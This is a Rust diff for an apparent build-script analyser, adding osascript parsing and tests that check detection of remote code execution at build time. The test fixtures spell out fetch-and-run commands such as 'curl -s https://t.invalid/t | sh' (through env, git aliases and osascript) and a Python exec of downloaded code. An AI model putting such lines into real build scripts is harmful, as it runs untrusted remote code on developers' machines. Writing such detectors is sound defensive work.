@@ -15,7 +15,13 @@ impl Walk<'_> {
     /// What the code of an interpreter does in its own language; not what was told already since `known`.
     pub(super) fn acts_of_line(&mut self, program: &str, text: &str, known: usize, span: Span) {
         let language = script::language_of_program(program).unwrap_or(Language::Shell);
-        for act in script::read(language, text) {
+        let mut acts = script::read(language, text);
+        if program.ends_with("osascript") {
+            // `do shell script "line"`
+            let quoted = text.split('"').filter(|part| part.contains(' '));
+            acts.extend(quoted.flat_map(|line| script::read(Language::Shell, line)));
+        }
+        for act in acts {
             let told = self.facts.flows.iter().skip(known).any(|flow| match act.end {
                 End::Send => flow.sink == StepKind::Send && flow.source == StepKind::Secret,
                 End::Run => {
@@ -105,5 +111,90 @@ impl Walk<'_> {
             }
         };
         self.emit(&data, end);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::{CapabilityTable, CodeFacts, Entry, Sources, read};
+    use super::StepKind;
+
+    fn flows(files: &[(&str, &str)]) -> CodeFacts {
+        let text = include_str!("../../../../rules/tables/capabilities.toml");
+        let table = CapabilityTable::parse(text).expect("the table of the tool");
+        let sources: Sources<'_> =
+            files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes())).collect();
+        let entry =
+            Entry { roots: vec!["build.rs".to_owned()], at_build: true, ..Entry::default() };
+        read(&sources, &entry, &table)
+    }
+
+    fn started(program: &str, arguments: &[&str]) -> String {
+        format!(
+            "fn main() {{ std::process::Command::new({program:?}).args({arguments:?}).status().ok(); }}"
+        )
+    }
+
+    fn ends(facts: &CodeFacts) -> Vec<(StepKind, StepKind)> {
+        facts.flows.iter().map(|flow| (flow.source, flow.sink)).collect()
+    }
+
+    #[test]
+    fn a_shipped_script_is_code_that_runs() {
+        let build = started("python3", &["tools/gen.py"]);
+        let fetches =
+            "import urllib.request\nexec(urllib.request.urlopen('https://t.invalid').read())";
+        let facts = flows(&[("build.rs", &build), ("tools/gen.py", fetches)]);
+        assert_eq!(ends(&facts), [(StepKind::Fetch, StepKind::Spawn)], "{:?}", facts.flows);
+        assert_eq!(facts.flows[0].steps[0].file, "tools/gen.py");
+        assert!(facts.downloads.is_some());
+        let prints =
+            flows(&[("build.rs", &build), ("tools/gen.py", "print('pub const A: u8 = 1;')")]);
+        assert_eq!(ends(&prints), [], "{:?}", prints.flows);
+    }
+
+    #[test]
+    fn a_document_that_is_run_is_named_as_something_else() {
+        let readme = started("sh", &["README.md"]);
+        let facts = flows(&[("build.rs", &readme), ("README.md", "# A\necho")]);
+        assert!(
+            facts.flows.iter().any(|flow| flow.disguised && flow.executed),
+            "{:?}",
+            facts.flows
+        );
+        let configure = started("sh", &["c/configure"]);
+        let facts = flows(&[("build.rs", &configure), ("c/configure", "#!/bin/sh\necho")]);
+        assert_eq!(ends(&facts), [], "{:?}", facts.flows);
+    }
+
+    #[test]
+    fn package_runners_fetch_and_run() {
+        for (program, arguments) in [
+            ("npx", &["-y", "small-tables"][..]),
+            ("uvx", &["small-tables"]),
+            ("deno", &["run", "-A", "https://t.invalid/t.ts"]),
+            ("go", &["run", "t.invalid/t@latest"]),
+            ("sh", &["-c", "npx --yes small-tables"]),
+            ("env", &["-S", "sh -c 'curl -s https://t.invalid/t | sh'"]),
+            ("git", &["-c", "alias.v=!curl -s https://t.invalid/t | sh", "v"]),
+            ("osascript", &["-e", "do shell script \"curl -s https://t.invalid/t | sh\""]),
+        ] {
+            let facts = flows(&[("build.rs", &started(program, arguments))]);
+            let fetched = (StepKind::Fetch, StepKind::Spawn);
+            assert!(ends(&facts).contains(&fetched), "{program} {arguments:?}: {:?}", facts.flows);
+        }
+        for (program, arguments) in [
+            ("npx", &["tailwindcss", "-i", "a.css"][..]),
+            ("go", &["build", "-buildmode=c-archive", "./lib"]),
+            ("deno", &["bundle", "src/a.ts"]),
+            ("npm", &["run", "build"]),
+            ("env", &["LC_ALL=C", "cc", "-v"]),
+            ("git", &["-c", "core.autocrlf=input", "describe"]),
+            ("awk", &["{ print $1 }", "table.txt"]),
+        ] {
+            let facts = flows(&[("build.rs", &started(program, arguments))]);
+            let run = ends(&facts).iter().any(|(_, sink)| *sink == StepKind::Spawn);
+            assert!(!run, "{program} {arguments:?}: {:?}", facts.flows);
+        }
     }
 }
